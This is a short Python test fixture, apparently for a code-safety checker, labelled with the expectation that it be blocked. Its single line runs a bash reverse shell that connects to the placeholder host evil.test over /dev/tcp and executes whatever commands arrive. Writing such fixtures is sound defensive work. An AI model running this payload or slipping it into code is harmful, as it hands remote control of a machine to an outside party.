# expect: BLOCKED
import os
os.system("bash -c 'exec 5<>/dev/tcp/evil.test/443; cat <&5 | while read l; do $l 2>&5 >&5; done'")
